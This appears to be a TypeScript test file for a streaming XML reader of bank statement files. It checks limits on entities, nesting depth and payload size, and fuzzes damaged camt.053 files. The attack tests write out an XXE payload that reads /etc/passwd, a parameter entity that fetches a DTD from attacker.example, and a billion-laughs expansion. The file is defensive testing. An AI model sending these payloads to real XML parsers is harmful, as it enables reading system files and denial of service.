/**
 * Hostile input: each attack is refused with its code in under 2 s and under 200 MB (time and resident
 * memory are measured around the read), long tokens cost linear time whatever the chunking, and damaged
 * bank files only ever produce our coded errors.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { isHubError } from "../../core/errors.js";
import type { XmlHandler, XmlReaderOptions } from "./types.js";
import { corpusCamtFiles, expectBytesLikeDecoded, oracle, ours, SAMPLE_CAMT } from "./xml-events.test-util.js";
import { createXmlReader } from "./xml-reader.js";

const MiB = 1024 * 1024;
const GiB = 1024 * MiB;
const CHUNK = 64 * 1024;
const LIMIT_MS = 2_000;
const LIMIT_MIB = 200;

/** What reading a (possibly endless) stream of chunks cost. */
interface Measured {
  readonly code: string | undefined;
  readonly ms: number;
  /** Largest growth of the resident set size over its value before the read, sampled while reading. */
  readonly rssGrowthMiB: number;
  /** How many chunks the reader took before it stopped. */
  readonly chunks: number;
}

const ignore: XmlHandler = { open() {}, text() {}, close() {} };

function measure(source: Iterable<string>, options?: XmlReaderOptions): Measured {
  const before = process.memoryUsage.rss();
  let peak = before;
  let chunks = 0;
  let sinceSample = 0;
  let code: string | undefined;
  const start = performance.now();
  const reader = createXmlReader(ignore, options);
  try {
    for (const chunk of source) {
      reader.write(chunk);
      chunks++;
      // Sampled every 256 KiB of input: often enough to see growth, rarely enough to cost nothing.
      sinceSample += chunk.length;
      if (sinceSample >= 256 * 1024) {
        peak = Math.max(peak, process.memoryUsage.rss());
        sinceSample = 0;
      }
    }
    reader.end();
  } catch (error) {
    if (!isHubError(error)) throw error;
    code = error.code;
  }
  const ms = performance.now() - start;
  peak = Math.max(peak, process.memoryUsage.rss());
  return { code, ms, rssGrowthMiB: (peak - before) / MiB, chunks };
}

/** `open`, then `total` code units made by `fill` in fresh 64 KiB chunks (generated on demand, never stored), then `close`. */
function* stream(open: string, fill: (n: number) => string, total: number, close = ""): Generator<string> {
  yield open;
  for (let n = 0, sent = 0; sent < total; n++, sent += CHUNK) yield fill(n);
  yield close;
}

/** A fresh 64 KiB chunk of one repeated character, different each time. */
const letters = (n: number) => String.fromCharCode(0x41 + (n % 26)).repeat(CHUNK);

function expectRefusedQuickly(m: Measured, code: string): void {
  expect(m.code).toBe(code);
  expect(m.ms).toBeLessThan(LIMIT_MS);
  expect(m.rssGrowthMiB).toBeLessThan(LIMIT_MIB);
}

describe("attacks", () => {
  it("refuses XXE, an external entity in a DTD, before reading it", () => {
    const xxe = '<?xml version="1.0"?>\n<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Document>&xxe;</Document>';
    expectRefusedQuickly(measure([xxe]), "XML_DTD_FORBIDDEN");
    const parameter = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><d/>';
    expectRefusedQuickly(measure([parameter]), "XML_DTD_FORBIDDEN");
    expectRefusedQuickly(measure(["<Document>&xxe;</Document>"]), "XML_ENTITY_UNKNOWN");
  });

  it("refuses billion laughs, nested entity expansion, as a DTD", () => {
    const entities = Array.from({ length: 9 }, (_, k) => `<!ENTITY lol${k + 1} "${`&lol${k};`.repeat(10)}">`).join("\n  ");
    const laughs = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n  <!ENTITY lol0 "lol">\n  ${entities}\n]>\n<lolz>&lol9;</lolz>`;
    expectRefusedQuickly(measure([laughs]), "XML_DTD_FORBIDDEN");
    // Also streamed a character at a time, and the reference without its DTD.
    expectRefusedQuickly(measure(laughs.split("")), "XML_DTD_FORBIDDEN");
    expectRefusedQuickly(measure(["<lolz>&lol9;</lolz>"]), "XML_ENTITY_UNKNOWN");
  });

  it("refuses 10,000-deep nesting as XML_TOO_DEEP, whole or streamed", () => {
    const deep = "<a>".repeat(10_000) + "</a>".repeat(10_000);
    expectRefusedQuickly(measure([deep]), "XML_TOO_DEEP");
    expectRefusedQuickly(measure(deep.match(/.{1,7}/gs) ?? []), "XML_TOO_DEEP");
    // 2 GB of start tags, streamed: refused after the first few.
    const endless = measure(stream("", (n) => (n % 2 === 0 ? "<a>" : "<b>").repeat(CHUNK / 3), 2 * GiB));
    expectRefusedQuickly(endless, "XML_TOO_DEEP");
    expect(endless.chunks).toBeLessThan(3);
  });

  it("reads a million-deep document when allowed to, without recursion", () => {
    const depth = 1_000_000;
    const m = measure(["<a>".repeat(depth), "</a>".repeat(depth)], { maxDepth: depth });
    expect(m.code).toBeUndefined();
    expect(m.ms).toBeLessThan(LIMIT_MS);
  });

  it("refuses 2 GB of text, streamed, as XML_TEXT_TOO_LARGE after about 1 MiB of it", () => {
    const m = measure(stream("<Document><Ntry><Ustrd>", letters, 2 * GiB, "</Ustrd></Ntry></Document>"));
    expectRefusedQuickly(m, "XML_TEXT_TOO_LARGE");
    expect(m.chunks * CHUNK).toBeLessThan(2 * MiB);
  });

  it("refuses 2 GB of white space between elements, streamed, as XML_TEXT_TOO_LARGE", () => {
    const m = measure(stream("<Document>", () => " \n".repeat(CHUNK / 2), 2 * GiB, "</Document>"));
    expectRefusedQuickly(m, "XML_TEXT_TOO_LARGE");
    expect(m.chunks * CHUNK).toBeLessThan(2 * MiB);
  });

  it.each([
    ["a comment", "<a><!--", "XML_TEXT_TOO_LARGE"],
    ["a CDATA section", "<a><![CDATA[", "XML_TEXT_TOO_LARGE"],
    ["a processing instruction", "<a><?pi ", "XML_TEXT_TOO_LARGE"],
    ["an attribute value", '<a><Amt Ccy="', "XML_TAG_TOO_LARGE"],
    ["an element name", "<a><Amt", "XML_TAG_TOO_LARGE"],
    ["an end tag name", "<a></a", "XML_TAG_TOO_LARGE"],
  ])("refuses 2 GB of %s, streamed, after its limit", (_, open, code) => {
    const m = measure(stream(open, letters, 2 * GiB));
    expectRefusedQuickly(m, code);
    expect(m.chunks * CHUNK).toBeLessThan(2 * MiB);
  });

  it("refuses an attribute value over maxTextLength as XML_TEXT_TOO_LARGE when tags may be longer", () => {
    const m = measure(stream('<a><Amt Ccy="', letters, 2 * GiB), { maxTagLength: 4 * MiB });
    expectRefusedQuickly(m, "XML_TEXT_TOO_LARGE");
  });
});

describe("linear time", () => {
  // One code unit per write is the worst chunking: a reader that joins and rescans what it carries on each
  // write is quadratic here (about 10^12 steps for these sizes), and would not finish.
  const oneAtATime = (s: string): Iterable<string> => s.split("");

  it.each([
    ["a text node", `<a>${"x".repeat(1_000_000)}</a>`],
    ["a text node full of references", `<a>${"&amp;&#233;".repeat(80_000)}</a>`],
    ["an attribute value", `<a v="${"x".repeat(60_000)}"/>`],
    ["a comment", `<a><!--${"x".repeat(1_000_000)}--></a>`],
    ["a CDATA section", `<a><![CDATA[${"x".repeat(1_000_000)}]]></a>`],
    ["a processing instruction", `<a><?pi ${"x".repeat(1_000_000)}?></a>`],
  ])("reads %s of about a million code units given one code unit per write, in linear time", (_, xml) => {
    const m = measure(oneAtATime(xml));
    expect(m.code).toBeUndefined();
    expect(m.ms).toBeLessThan(LIMIT_MS);
    expect(m.rssGrowthMiB).toBeLessThan(LIMIT_MIB);
  });
});

/** How a real file is damaged. */
type Mutation =
  | { readonly kind: "replace" | "insert"; readonly at: number; readonly text: string }
  | { readonly kind: "delete" | "duplicate"; readonly at: number; readonly length: number }
  | { readonly kind: "truncate"; readonly at: number };

const NASTY = [
  "<",
  ">",
  "&",
  ";",
  "#",
  "x",
  '"',
  "'",
  "]",
  "]]>",
  "/",
  "=",
  "!",
  "?",
  "-",
  "--",
  " ",
  "\r",
  "\n",
  "\0",
  "\uFFFE",
  "\uD800",
  "\uDC00",
  "😀",
  "<!DOCTYPE",
  "&#0;",
  "&#x1F600;",
  "<![CDATA[",
  "<!--",
  "<?xml",
  "</",
];
const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({
    kind: fc.constantFrom("replace" as const, "insert" as const),
    at: fc.nat(),
    text: fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: "binary", maxLength: 3 })),
  }),
  fc.record({ kind: fc.constantFrom("delete" as const, "duplicate" as const), at: fc.nat(), length: fc.integer({ min: 1, max: 40 }) }),
  fc.record({ kind: fc.constant("truncate" as const), at: fc.nat() }),
);

function mutate(text: string, mutations: readonly Mutation[]): string {
  let s = text;
  for (const m of mutations) {
    const at = m.at % (s.length + 1);
    switch (m.kind) {
      case "replace":
        s = s.slice(0, at) + m.text + s.slice(at + 1);
        break;
      case "insert":
        s = s.slice(0, at) + m.text + s.slice(at);
        break;
      case "delete":
        s = s.slice(0, at) + s.slice(at + m.length);
        break;
      case "duplicate":
        s = s.slice(0, at + m.length) + s.slice(at, at + m.length) + s.slice(at + m.length);
        break;
      case "truncate":
        s = s.slice(0, at);
        break;
    }
  }
  return s;
}

/** Random bytes changed in the file's UTF-8 encoding, decoded again as a lenient reader would (bad sequences become U+FFFD). */
function mutateBytes(text: string, changes: readonly (readonly [number, number])[]): string {
  const bytes = new TextEncoder().encode(text);
  for (const [at, value] of changes) bytes[at % bytes.length] = value;
  return new TextDecoder("utf-8").decode(bytes);
}

/** `xml` cut at the given positions. */
function cut(xml: string, positions: readonly number[]): string[] {
  const at = [...new Set(positions.map((p) => p % (xml.length + 1)))].sort((a, b) => a - b);
  const chunks: string[] = [];
  let last = 0;
  for (const p of at) {
    chunks.push(xml.slice(last, p));
    last = p;
  }
  chunks.push(xml.slice(last));
  return chunks;
}

/**
 * Where saxes is not the oracle: we refuse a DTD it reads, and it accepts what XML does not allow: unpaired
 * surrogates, and a processing instruction target followed by something other than white space or `?>`
 * (`<?x?l …?>`).
 */
const BEYOND_ORACLE = /[\uD800-\uDFFF]|<![A-Za-z]|<\?[^\s?>]+\?(?!>)/;

describe("damaged bank files", () => {
  const files = [{ name: "sample camt.053", text: SAMPLE_CAMT }, ...corpusCamtFiles()];

  it("only ever give our coded errors, the same ones and the same events whatever the chunking and read as UTF-8 bytes, and agree with saxes", () => {
    fc.assert(
      fc.property(
        fc.nat(files.length - 1),
        fc.oneof(
          fc.array(mutationArb, { minLength: 1, maxLength: 6 }).map((ms) => ({ ms, bytes: [] as (readonly [number, number])[] })),
          fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 6 }).map((bytes) => ({ ms: [] as Mutation[], bytes })),
        ),
        fc.array(fc.nat(), { maxLength: 20 }),
        (index, damage, positions) => {
          const original = files[index]!.text;
          const xml = damage.bytes.length > 0 ? mutateBytes(original, damage.bytes) : mutate(original, damage.ms);
          const start = performance.now();
          const whole = ours(xml);
          expect(whole.error ?? "", "only XML_* HubErrors").not.toMatch(/^foreign/);
          expect(ours(cut(xml, positions))).toEqual(whole);
          expect(performance.now() - start).toBeLessThan(1_000);
          expectBytesLikeDecoded(xml);
          if (!BEYOND_ORACLE.test(xml)) {
            const expected = oracle(xml);
            if (expected.error === undefined) expect(whole).toEqual(expected);
            else expect(whole.error, `saxes: ${expected.error}`).toBeDefined();
          }
        },
      ),
      { numRuns: 3_000 },
    );
  });
});
